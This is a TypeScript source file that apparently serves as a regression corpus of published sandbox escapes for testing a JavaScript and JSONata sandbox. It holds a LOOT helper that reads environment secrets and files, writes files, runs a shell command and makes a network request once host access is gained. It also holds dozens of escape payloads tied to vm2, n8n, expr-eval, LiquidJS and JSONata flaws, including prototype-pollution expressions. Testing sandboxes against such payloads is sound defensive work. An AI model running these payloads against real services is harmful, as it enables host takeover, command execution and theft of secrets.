/** A way out that was published for some sandbox, in our own words: `PROCESS` stands for what it did with the host's `process`. */
export interface Escape {
  readonly from: string;
  readonly source: string;
}

/** What each one tries once it has a `process`: to read the environment, a file and the network, and to write and start something. Returns what it got. */
export const LOOT = String.raw`const loot = (host) => {
  const got = [host.env && host.env.FLUXO_CANARY];
  const load = (name) => (host.getBuiltinModule ? host.getBuiltinModule(name) : host.mainModule.require(name));
  got.push(load("fs").readFileSync(FILE, "utf8"));
  load("fs").writeFileSync(TARGET, "written");
  load("child_process").execSync("touch " + TARGET);
  load("http").get(URL);
  return got;
};
`;

/** In JavaScript. Each would return or throw what it reached. */
export const JAVASCRIPT_ESCAPES: readonly Escape[] = [
  { from: "n8n CVE-2025-68613: `this` of a function", source: "return loot((function () { return this.process; })());" },
  { from: "n8n CVE-2025-68613: the same by an arrow's constructor", source: "return loot((() => {}).constructor('return this.process')());" },
  { from: "n8n CVE-2026-25049: the constructor by destructuring", source: "const { constructor: make } = () => {}; return loot(make('return process')());" },
  { from: "n8n CVE-2026-25049: the constructor by a computed name", source: "const name = ['con', 'structor'].join(''); return loot(input[name][name]('return process')());" },
  { from: "Node vm: the constructor of the global object", source: "return loot(globalThis.constructor.constructor('return process')());" },
  { from: "vm2 #32: a foreign Function", source: "const Foreign = console.log.constructor; return loot(Foreign('return process')());" },
  {
    from: "vm2 #175: a setter's descriptor",
    source: "let host; try { Object.defineProperty(console, 'x', { get set() { Object.defineProperty(Object.prototype, 'get', { get() { throw (f) => f.constructor('return process')(); } }); return () => {}; } }); } catch (thrown) { host = thrown(() => {}); } return loot(host);",
  },
  { from: "vm2 #177: a constructing proxy", source: "const Made = new Proxy(class {}, { construct: () => () => (f) => f.constructor('return process')() }); return loot(new Made()()(console.log));" },
  { from: "vm2 #179: the prototype of `this`", source: "const Made = new Proxy(class {}, { construct: () => function () { return Object.getPrototypeOf(this).constructor.constructor('return process')(); } }); return loot({ call: new Made() }.call());" },
  { from: "vm2 #184: __lookupGetter__ on a host function", source: "const proto = console.log.__lookupGetter__('__proto__').call(console.log); return loot(Object.getOwnPropertyDescriptor(proto, 'constructor').value('return process')());" },
  {
    from: "vm2 #199: a host error at the end of the stack",
    source: "const deep = () => { try { return deep(); } catch (error) { return error; } }; return loot(deep().constructor.constructor('return process')());",
  },
  { from: "vm2 CVE-2022-36067: prepareStackTrace", source: "Error.prepareStackTrace = (_, frames) => frames; const frames = new Error().stack; return loot(frames[0].getThis().process);" },
  { from: "vm2 CVE-2023-29017: an async error's stack", source: "Error.prepareStackTrace = (error, frames) => loot(frames.constructor.constructor('return process')()); return (async () => { null.x; })().catch((error) => error.stack);" },
  { from: "vm2 CVE-2023-30547: a proxy's getPrototypeOf that throws", source: "const p = new Proxy({}, { getPrototypeOf() { (function stack() { new Error().stack; stack(); })(); } }); try { throw p; } catch ({ constructor: c }) { return loot(c.constructor('return process')()); }" },
  { from: "vm2 CVE-2023-32314: a proxied Function", source: "const e = new Error(); e.name = new Proxy({}, { get: () => (() => {}).constructor('return process')() }); return loot(e.name.any);" },
  {
    from: "vm2 CVE-2023-37466: promise species",
    source: "const p = (async () => { (function stack() { new Error().stack; stack(); })(); })(); let got; p.constructor = { [Symbol.species]: class { constructor(run) { run((x) => x, (error) => { got = error; }); } } }; p.then(); return Promise.resolve().then(() => loot(got.constructor.constructor('return process')()));",
  },
  {
    from: "vm2 CVE-2023-37903: a custom inspect",
    source: "const odd = { [Symbol.for('nodejs.util.inspect.custom')]: (_depth, _options, inspect) => { throw loot(inspect.constructor('return process')()); } }; console.log(odd); WebAssembly.compileStreaming(odd); return null;",
  },
  { from: "vm2 #533: a symbol's constructor in species", source: "const make = Symbol().constructor.constructor; return loot(make('return process')());" },
  { from: "vm2 CVE-2026-45411: an async generator's return", source: "async function* g() { try { yield 1; } finally { yield (() => {}).constructor('return process')(); } } const it = g(); return it.next().then(() => it.return({ then: (done) => done(loot.constructor('return process')()) })).then(({ value }) => loot(value));" },
  { from: "vm2 GHSA-55hx-c926-fr95: SuppressedError", source: "const made = new SuppressedError(new Error('a'), new Error('b')); return loot(made.constructor.constructor('return process')());" },
  { from: "vm2 GHSA-ffh4-j6h5-pg66: WebAssembly's exceptions", source: "return loot(new WebAssembly.Exception(new WebAssembly.Tag({ parameters: [] }), []).constructor.constructor('return process')());" },
  { from: "expr-eval CVE-2025-12735: a function handed in", source: "const run = console.log.bind; return loot(run.constructor('return process')());" },
  { from: "expr-eval CVE-2025-13204: by the prototype", source: "input.__proto__.toString = () => 'process'; return loot(globalThis[input]);" },
  { from: "LiquidJS CVE-2026-45618, as source: a template's constructor chain", source: "return loot([].map.constructor.constructor('return globalThis.process')());" },
  { from: "jsonata CVE-2026-77415, in its own language: getBuiltinModule", source: "return loot({ getBuiltinModule: process.getBuiltinModule });" },
  { from: "modules: require", source: "return loot({ env: {}, mainModule: { require } });" },
  { from: "modules: import()", source: "return import('node:fs').then((fs) => fs.readFileSync(FILE, 'utf8'));" },
  { from: "modules: import() of data", source: "return import('data:text/javascript,export default process').then((found) => loot(found.default));" },
  { from: "network: fetch", source: "return fetch(URL).then((response) => response.text());" },
  { from: "network: XMLHttpRequest, WebSocket", source: "new WebSocket(URL); const request = new XMLHttpRequest(); request.open('GET', URL); request.send(); return null;" },
  { from: "QuickJS: its own std and os", source: "return std.loadFile(FILE) + os.exec(['touch', TARGET]) + bjson.read();" },
  { from: "emscripten: its module and memory", source: "return Module.FS.readFile(FILE, { encoding: 'utf8' });" },
  { from: "the prelude: its closure", source: "return loot((console.log.caller || console.log.arguments.callee.caller).constructor('return process')());" },
  { from: "the prelude: host functions", source: "return loot(Math.random.constructor('return process')());" },
  { from: "the wrapper: out of the function", source: "}), (globalThis.process && loot(process)), (function () { return typeof process;" },
];

/** In JSONata, where a name is looked up on data. */
export const JSONATA_ESCAPES: readonly Escape[] = [
  { from: "CVE-2024-27307: transform of the prototype", source: "$ ~> |__proto__|{'isAdmin': true}|" },
  { from: "CVE-2024-27307: transform of the constructor's prototype", source: "{'a': 1} ~> |constructor.prototype|{'isAdmin': true}|" },
  { from: "CVE-2024-27307: by __lookupGetter__", source: "{} ~> |__lookupGetter__('__proto__')()|{'isAdmin': true}|" },
  { from: "CVE-2026-12208: grouping by a dangerous key", source: "items{'__proto__': {'isAdmin': true}}" },
  { from: "CVE-2026-12208: $merge of a dangerous key", source: "$merge([{'__proto__': {'isAdmin': true}}, {'constructor': {'prototype': {'isAdmin': true}}}])" },
  { from: "CVE-2026-12208: an object made of a dangerous key", source: "{'__proto__': {'isAdmin': true}, 'hasOwnProperty': 1, 'toString': 2}.isAdmin" },
  { from: "CVE-2026-77415: getBuiltinModule by the constructor of a function", source: "$sum.implementation.constructor('return process.getBuiltinModule(\"child_process\").execSync(\"touch TARGET\")')()" },
  { from: "CVE-2026-77415: the same by a lambda", source: "function($x){$x}.constructor.constructor('return process')()" },
  { from: "CVE-2026-77415: by what $lookup finds", source: "$lookup($lookup({}, 'constructor'), 'constructor')" },
  { from: "n8n CVE-2025-68613, as an expression", source: "$$.constructor.constructor('return process')().env" },
  { from: "the environment of an expression", source: "$eval('$process.env & $env.FLUXO_CANARY & $global & $window & $require(\"fs\")')" },
  { from: "$each and $spread over functions", source: "$spread($sum) ~> $each(function($v, $k){$k & $string($v)})" },
];
